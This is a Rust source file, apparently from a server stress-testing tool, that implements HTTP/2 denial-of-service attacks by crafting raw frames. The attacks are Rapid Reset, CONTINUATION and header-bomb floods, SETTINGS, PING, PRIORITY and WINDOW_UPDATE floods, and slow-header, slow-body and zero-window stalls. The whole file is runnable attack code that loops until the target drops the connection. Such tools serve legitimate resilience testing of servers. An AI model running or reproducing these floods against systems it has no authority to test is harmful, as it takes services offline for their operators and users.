//! What can be done with frames.

use std::time::Duration;

use tokio::{io::AsyncReadExt as _, time::sleep};

use super::{
    Attack, Attacker, End,
    frame::{
        ACKNOWLEDGED, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, NONE, PING, PRIORITY,
        RESET, SETTINGS, WINDOW, frame, head, kept, literal,
    },
};

/// Between the bytes of who is slow.
const SLOW: Duration = Duration::from_millis(500);
/// Frames that are sent at a time.
const BATCH: u32 = 200;
/// Streams that a caller has open at the most, as it was told.
const STREAMS: u32 = 256;

/// Attacks until the target hangs up, which is an error, or for ever.
pub(super) async fn attack(attack: Attack, mut peer: Attacker<'_>) -> Result<(), End> {
    let head = head(&peer.target.path, &peer.target.authorization);
    match attack {
        Attack::HalfOpen => return peer.wait_for_the_end().await,
        Attack::SlowStart => {
            for byte in HELLO {
                peer.send_and_hear(&[*byte]).await?;
                sleep(SLOW).await;
            }
            return peer.wait_for_the_end().await;
        }
        _ => peer.send(HELLO).await?,
    }
    match attack {
        Attack::Idle => peer.wait_for_the_end().await,
        Attack::RapidReset => {
            let mut stream = 1;
            loop {
                let mut bytes = Vec::new();
                for _ in 0..BATCH {
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
                    bytes.extend(frame(RESET, NONE, stream, &8_u32.to_be_bytes()));
                    stream += 2;
                }
                peer.send_and_hear(&bytes).await?;
            }
        }
        Attack::MadeReset => {
            let mut stream = 1;
            loop {
                let mut bytes = Vec::new();
                for _ in 0..BATCH {
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
                    // A window that grows by nothing is an error of its stream.
                    bytes.extend(frame(WINDOW, NONE, stream, &0_u32.to_be_bytes()));
                    stream += 2;
                }
                peer.send_and_hear(&bytes).await?;
            }
        }
        Attack::Continuation => {
            peer.send(&frame(HEADERS, END_STREAM, 1, &head)).await?;
            let piece = literal("x-more", "a");
            repeat(&mut peer, &frame(CONTINUATION, NONE, 1, &piece)).await
        }
        Attack::EmptyData => {
            peer.send(&frame(HEADERS, END_HEADERS, 1, &head)).await?;
            repeat(&mut peer, &frame(DATA, NONE, 1, &[])).await
        }
        Attack::Settings => {
            // The size of the table and the window of streams, each time others.
            let small = [0, 1, 0, 0, 0, 0, 0, 4, 0, 0, 0, 1];
            let large = [0, 1, 0, 0, 16, 0, 0, 4, 0, 1, 0, 0];
            let both = [frame(SETTINGS, NONE, 0, &small), frame(SETTINGS, NONE, 0, &large)].concat();
            repeat_unread(&mut peer, &both).await
        }
        Attack::Pings => repeat_unread(&mut peer, &frame(PING, NONE, 0, b"are you?")).await,
        Attack::Priorities => repeat(&mut peer, &frame(PRIORITY, NONE, 1, &[0, 0, 0, 3, 255])).await,
        Attack::Windows => {
            peer.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &head)).await?;
            repeat(&mut peer, &frame(WINDOW, NONE, 1, &1_u32.to_be_bytes())).await
        }
        Attack::HeaderBomb => {
            // One header of nearly the whole table, and then its number, one byte each time.
            let mut block = kept("x-bomb", &"a".repeat(3900));
            block.extend(&head);
            block.extend(vec![0xbe; 12_000]);
            streams(&mut peer, |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await
        }
        Attack::ManyHeaders => {
            let mut block = head;
            let many: Vec<u8> = (0..10_000).flat_map(|number| literal(&format!("x-{number}"), "a")).collect();
            let (first, rest) = many.split_at(16_000 - block.len());
            block.extend(first);
            streams(&mut peer, |stream| {
                let mut bytes = frame(HEADERS, END_STREAM, stream, &block);
                let mut pieces = rest.chunks(16_000).peekable();
                while let Some(piece) = pieces.next() {
                    let flags = if pieces.peek().is_none() { END_HEADERS } else { NONE };
                    bytes.extend(frame(CONTINUATION, flags, stream, piece));
                }
                bytes
            })
            .await
        }
        Attack::SlowHead => {
            // One that never ends: who is asked whether it is there can not say so in between.
            peer.send(&frame(HEADERS, END_STREAM, 1, &head)).await?;
            loop {
                peer.send_and_hear(&frame(CONTINUATION, NONE, 1, &literal("x", "y"))).await?;
                sleep(SLOW).await;
            }
        }
        Attack::SlowBody => {
            let streams: Vec<u32> = (0..STREAMS).map(|number| number * 2 + 1).collect();
            let open: Vec<u8> =
                streams.iter().flat_map(|&stream| frame(HEADERS, END_HEADERS, stream, &head)).collect();
            peer.send(&open).await?;
            // A message of a kilobyte, byte by byte.
            let begin: Vec<u8> =
                streams.iter().flat_map(|&stream| frame(DATA, NONE, stream, &[0, 0, 0, 4, 0])).collect();
            peer.send(&begin).await?;
            answering_pings(&mut peer, |peer| {
                peer.extend(streams.iter().flat_map(|&stream| frame(DATA, NONE, stream, b"a")));
            })
            .await
        }
        Attack::Unread => {
            // No window for any stream.
            peer.send(&frame(SETTINGS, NONE, 0, &[0, 4, 0, 0, 0, 0])).await?;
            let message = [0, 0, 0, 0, 0];
            let calls: Vec<u8> = (0..STREAMS)
                .map(|number| number * 2 + 1)
                .flat_map(|stream| {
                    [frame(HEADERS, END_HEADERS, stream, &head), frame(DATA, END_STREAM, stream, &message)]
                        .concat()
                })
                .collect();
            peer.send(&calls).await?;
            answering_pings(&mut peer, |_| {}).await
        }
        Attack::HalfOpen | Attack::SlowStart => Ok(()),
        Attack::Pipelined | Attack::HugeHead | Attack::SmallChunks => unreachable!("they are of HTTP/1"),
    }
}

/// Sends a frame without an end, and reads what comes.
async fn repeat(peer: &mut Attacker<'_>, frame: &[u8]) -> Result<(), End> {
    let bytes = frame.repeat(BATCH as usize);
    loop {
        peer.send_and_hear(&bytes).await?;
    }
}

/// The same, and reads nothing.
async fn repeat_unread(peer: &mut Attacker<'_>, frame: &[u8]) -> Result<(), End> {
    let bytes = frame.repeat(BATCH as usize);
    loop {
        peer.send(&bytes).await?;
    }
}

/// Opens stream after stream.
async fn streams(peer: &mut Attacker<'_>, open: impl Fn(u32) -> Vec<u8>) -> Result<(), End> {
    let mut stream = 1;
    loop {
        peer.send_and_hear(&open(stream)).await?;
        stream += 2;
    }
}

/// Answers every ping, as a proper peer does, and says something now and then.
async fn answering_pings(peer: &mut Attacker<'_>, say: impl Fn(&mut Vec<u8>)) -> Result<(), End> {
    let mut heard = Vec::new();
    loop {
        let mut answers = Vec::new();
        // Whole frames only; the rest comes later.
        while heard.len() >= 9 {
            let length = usize::from(heard[0]) << 16 | usize::from(heard[1]) << 8 | usize::from(heard[2]);
            if heard.len() < 9 + length {
                break;
            }
            let (kind, flags) = (heard[3], heard[4]);
            let payload: Vec<u8> = heard.drain(..9 + length).skip(9).collect();
            if kind == PING && flags & ACKNOWLEDGED == 0 {
                answers.extend(frame(PING, ACKNOWLEDGED, 0, &payload));
            }
        }
        say(&mut answers);
        peer.send(&answers).await?;
        if let Ok(read) = tokio::time::timeout(SLOW, peer.stream.read_buf(&mut heard)).await
            && read? == 0
        {
            return Err(End::Cut);
        }
        if answers.is_empty() {
            sleep(SLOW / 10).await;
        }
    }
}
